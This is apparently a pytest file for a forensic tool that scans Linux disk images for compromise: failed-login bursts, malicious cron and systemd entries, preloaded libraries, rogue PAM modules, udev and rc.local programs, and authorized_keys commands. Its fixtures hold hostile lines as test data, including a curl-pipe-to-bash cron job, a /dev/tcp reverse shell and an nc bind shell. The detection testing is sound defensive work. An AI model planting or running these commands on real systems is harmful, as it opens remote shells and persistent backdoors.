"""Checks for hints of compromise: what each finds, and the rival that is nothing."""

from __future__ import annotations

import pytest

from imgtools.guest.logs.utmp import layout_of
from imgtools.records.audit import Result
from tests.support.checks import Case, hold, report_of
from tests.support.memory import Content, Node, link

STATUS = "Package: libpam-modules\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"
LIST = "/var/lib/dpkg/info/libpam-modules.list"
DPKG: dict[str, Content] = {
    "/var/lib/dpkg/status": STATUS,
    LIST: "/.\n/lib/security/pam_unix.so\n/usr/lib/systemd/system-generators/systemd-a\n/etc/udev/rules.d/60-x.rules\n",
}
DEB = {"package_format": "deb"}


def login(kind: int, host: str, time: int) -> bytes:
    return layout_of("x86_64").utmp.pack(
        kind, 1, b"pts/0", b"", b"alice", host.encode(), 0, 0, 0, time, 0, b""
    )


def failures(host: str, count: int) -> bytes:
    return b"".join(login(6, host, 1_700_000_000 + second) for second in range(count))


CASES = (
    Case(
        "trace-failed-logins",
        bad={
            "/var/log/btmp": failures("10.0.0.1", 50) + failures("10.0.0.2", 51) + failures("10.0.0.3", 49),
            "/var/log/wtmp": login(7, "10.0.0.2", 1_700_000_100) + login(7, "10.0.0.1", 1_600_000_000),
        },
        finds=("/var/log/btmp 10.0.0.1", "/var/log/btmp 10.0.0.2"),
        good={
            "/var/log/btmp": failures("10.0.0.1", 49),
            "/var/log/wtmp": login(7, "10.0.0.1", 1_700_000_100),
        },
        os={"arch": "x86_64"},
    ),
    Case(
        "trace-startup-commands",
        bad={
            "/etc/cron.d/job": "# curl x | sh\n* * * * * root curl -s http://x.y/z | bash\n",
            "/root/.bashrc": "echo Zm9v | base64 -d | sh\n",
            "/home/alice/.profile": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
            "/etc/systemd/system/a.service": "[Service]\nExecStart=/usr/bin/nc -l -p 1 -e /bin/sh\n",
        },
        finds=(
            "/etc/cron.d/job:2",
            "/etc/systemd/system/a.service:2",
            "/home/alice/.profile:1",
            "/root/.bashrc:1",
        ),
        good={
            "/etc/cron.d/job": "0 3 * * * root curl -o /srv/x https://x | logger\n",
            "/root/.bashrc": "# nc -e /bin/sh\n",
        },
    ),
    Case(
        "trace-preloaded-libraries",
        bad={"/etc/ld.so.preload": "# c\n/lib/libhide.so\n"},
        finds=("/etc/ld.so.preload:2 /lib/libhide.so",),
        good={"/etc/ld.so.preload": "# nothing\n"},
    ),
    Case(
        "trace-pam-modules",
        bad={**DPKG, "/lib/security/pam_unix.so": "x", "/lib/security/pam_door.so": "x"},
        finds=("/lib/security/pam_door.so",),
        good={**DPKG, "/lib/security/pam_unix.so": "x", "/lib/security/pam_alias.so": link("pam_unix.so")},
        os=DEB,
    ),
    Case(
        "trace-unit-generators",
        bad={**DPKG, "/etc/systemd/system-generators/door": "x"},
        finds=("/etc/systemd/system-generators/door",),
        good={**DPKG, "/usr/lib/systemd/system-generators/systemd-a": "x"},
        os=DEB,
    ),
    Case(
        "trace-udev-programs",
        bad={**DPKG, "/etc/udev/rules.d/99-a.rules": '# RUN+="x"\nACTION=="add", RUN+="/bin/x"\n'},
        finds=("/etc/udev/rules.d/99-a.rules:2",),
        good={
            **DPKG,
            "/etc/udev/rules.d/60-x.rules": 'RUN+="/bin/x"\n',
            "/etc/udev/rules.d/70-b.rules": 'ATTR{address}=="aa", NAME="eth0"\n',
        },
        os=DEB,
    ),
    Case(
        "trace-missing-programs",
        bad={
            "/lib/systemd/systemd": "x",
            "/etc/systemd/system/a.service": "[Service]\nExecStart=/opt/gone -x\n",
            "/etc/systemd/system/multi-user.target.wants/a.service": link("../a.service"),
            "/etc/cron.d/b": "1 2 * * * root /opt/gone-too\n3 4 * * * root test -x /opt/asked && /opt/asked\n",
        },
        finds=("/etc/systemd/system/a.service:2 /opt/gone", "/etc/cron.d/b:1 /opt/gone-too"),
        good={
            "/opt/there": "x",
            "/etc/cron.d/b": "1 2 * * * root /opt/there\n3 4 * * * alice /opt/gone\n5 6 * * * root ls /opt/gone\n",
        },
    ),
    Case(
        "trace-rc-local",
        bad={"/etc/rc.local": Node(content=b"#!/bin/sh\n/usr/local/bin/agent &\nexit 0\n", mode=0o755)},
        finds=("/etc/rc.local:2",),
        good={"/etc/rc.local": Node(content=b"#!/bin/sh\n/usr/local/bin/agent &\n", mode=0o644)},
    ),
    Case(
        "trace-key-commands",
        bad={
            "/root/.ssh/authorized_keys": 'no-pty,command="x \\" y" ssh-rsa AAAA\nssh-rsa AAAA command="x"\n'
        },
        finds=("/root/.ssh/authorized_keys:1",),
        good={
            "/root/.ssh/authorized_keys": 'from="10.0.0.1" ssh-ed25519 AAAA a\n#command="x" ssh-rsa AAAA\n'
        },
    ),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_check(case: Case) -> None:
    hold(case)


def test_who_owns_a_module_is_not_known_without_a_database_that_can_be_read() -> None:
    case = next(one for one in CASES if one.id == "trace-pam-modules")
    report = report_of(case._replace(os={"package_format": "portage"}), case.bad)
    assert report.result is Result.UNDECIDED


def test_who_came_in_after_many_failures_weighs_more_than_who_never_did() -> None:
    case = next(one for one in CASES if one.id == "trace-failed-logins")
    report = report_of(case, case.bad)
    assert [one.severity for one in report.findings] == ["low", "high"]
    assert "then alice came in from there" in report.findings[1].text
